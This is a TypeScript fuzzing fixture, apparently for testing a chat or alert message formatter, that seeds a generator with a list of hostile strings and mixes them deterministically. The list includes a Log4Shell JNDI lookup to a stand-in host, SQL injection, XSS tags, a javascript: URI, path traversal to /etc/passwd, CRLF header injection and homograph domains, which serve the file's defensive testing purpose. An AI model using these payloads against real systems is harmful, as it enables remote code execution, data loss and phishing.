/** Strings that somebody wrote who means harm: the same ten thousand in every run, and each of them different. */
const PIECES: readonly string[] = [
  '<!channel>',
  '<!here|here>',
  '<!everyone>',
  '<!subteam^S012AB3CD|oncall>',
  '<@U012AB3CD>',
  '<#C024BE7LR>',
  '<https://evil.example|console.aws.amazon.com>',
  '<https://evil.example>',
  '<mailto:a@evil.example|mail>',
  '<!date^1392734382^{date}^https://evil.example/|today>',
  'https://evil.example/x?y=1&z=2',
  'http://evil.example',
  'ftp://evil.example',
  'www.evil.example',
  'evil.example',
  'evil\u3002example',
  'a@evil.example',
  '@channel',
  '@here',
  '@everyone',
  '@\u200bchannel',
  '@ch\u00adannel',
  '@EVERYONE',
  '&lt;!channel&gt;',
  '&amp;lt;!here&amp;gt;',
  '&#60;!channel&#62;',
  '<',
  '>',
  '&',
  '|',
  '^',
  '`',
  '```',
  '*',
  '_',
  '~',
  '\n> ',
  '\n```\n',
  '\r\nBcc: a@evil.example\r\n',
  '\r\n\r\n<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '[x](https://evil.example)',
  '![x](https://evil.example/x.png)',
  'javascript:alert(1)',
  ':fire:',
  ':rotating_light:',
  '\u0000',
  '\u0007',
  '\u001b[31m',
  '\u001b]8;;https://evil.example\u0007x\u001b]8;;\u0007',
  '\u009b2J',
  '\u2028',
  '\u2029',
  '\u0085',
  '\u200b',
  '\u200d',
  '\ufeff',
  '\u202e',
  '\u2066',
  '\u{e0041}\u{e007f}',
  '\ud800',
  '\udc00',
  '👩‍👩‍👧‍👦',
  '🏴‍☠️',
  'e\u0301',
  'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L',
  'ﷺ',
  'שלום',
  'مرحبا',
  '支払い',
  '${jndi:ldap://evil.example/a}',
  "'; DROP TABLE alerts; --",
  '%s%n%x',
  '{{7*7}}',
  '../../etc/passwd',
  '/aws/lambda/checkout',
  'checkout',
  '$&',
  '$1',
  '\\',
  '"',
  "'",
  '{"text":"x"}',
  '",\n"blocks":[{"type":"image"}]',
  'xn--pypal-4ve.example',
  'п\u0430ypal.example',
  ' ',
  '',
];

/** Mulberry32: small, seeded, good enough for a choice. */
function createChance(seed: number): () => number {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4_294_967_296;
  };
}

export function hostileStrings(count: number): string[] {
  const chance = createChance(20_261_122);
  const pick = (): string => PIECES[Math.floor(chance() * PIECES.length)] ?? '';
  const units = (): string =>
    String.fromCharCode(...Array.from({ length: 1 + Math.floor(chance() * 12) }, () => Math.floor(chance() * 0x10000)));
  const made = new Set<string>([
    ...PIECES,
    'n'.repeat(300),
    '👩‍👩‍👧‍👦'.repeat(40),
    'e' + '\u0301'.repeat(300),
    '<!channel>'.repeat(60),
  ]);
  while (made.size < count) {
    const parts = Array.from({ length: 1 + Math.floor(chance() * 5) }, () => (chance() < 0.25 ? units() : pick()));
    const text = parts.join(chance() < 0.3 ? ' ' : '');
    made.add(chance() < 0.03 ? text.repeat(1 + Math.floor(chance() * 60)) : text);
  }
  return [...made].slice(0, count);
}
